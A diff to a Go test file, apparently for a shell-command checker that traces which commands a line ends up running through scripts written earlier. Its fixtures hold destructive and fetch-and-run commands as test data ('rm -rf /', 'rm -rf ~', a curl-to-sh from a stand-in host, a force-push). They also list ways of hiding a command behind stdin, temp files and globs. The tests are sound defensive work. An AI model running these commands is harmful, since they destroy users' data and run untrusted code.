@@ -21,6 +21,7 @@ func TestRunsEarlier(t *testing.T) {
 		"/p/big.sh":        {Whole: false},
 		"~/.local/bin/upd": {Text: "curl -s https://x.example/i | sh\n", Whole: true},
 		"/p/notes.awk":     {Text: "#!/usr/bin/awk -f\n{ print }\n", Whole: true},
+		"/p/x.s?":          {Text: "rm -rf ~\n", Whole: true}, // the reader matches a glob
 	}
 	before := Before{Cwd: "/p", Written: func(p string) (EarlierFile, bool) {
 		f, ok := files[p]
@@ -44,6 +45,7 @@ func TestRunsEarlier(t *testing.T) {
 		{"./tool", "rm -rf /"},
 		{"bin/run", "git push --force origin main"},
 		{"bash big.sh", "dynamic"},
+		{"bash x.s?", "rm -rf ~"},
 		{"~/.local/bin/upd", "sh"},
 		{"bash ok.sh", "echo hi"},
 		{"bash other.sh", ""},
@@ -51,6 +53,14 @@ func TestRunsEarlier(t *testing.T) {
 		{"bash -c 'echo hi' x.sh", ""}, // x.sh is $0
 		{"./notes.awk data.txt", ""},   // awk code that runs nothing
 		{"echo 'echo fine' > x.sh; bash x.sh", "echo fine"},
+		// written on this line (runsWritten), however it is run
+		{"echo 'rm -rf /' > n.sh; bash /dev/stdin < n.sh", "rm -rf /"},
+		{"echo 'rm -rf /' > n.sh; bash -e n.sh", "rm -rf /"},
+		{"echo 'rm -rf /' > n.sh; sh < n.sh", "rm -rf /"},
+		{`f=$(mktemp); echo 'rm -rf /' > "$f"; bash "$f"`, "rm -rf /"},
+		{`f=$(mktemp); echo 'rm -rf /' > $f; sh ${f}`, "rm -rf /"},
+		{"printf '#!/usr/bin/env python3\nimport os\nos.system(\"rm -rf /\")\n' > t; chmod +x t; ./t", "rm -rf /"},
+		{"echo 'rm -rf /' > n.sh; bash -c 'echo hi' n.sh", ""},
 	} {
 		l := ParseShellAfter(tt.line, "bash", before)
 		var ran []string // what the script's text runs: commands, and inline code's shell-outs and destructive calls
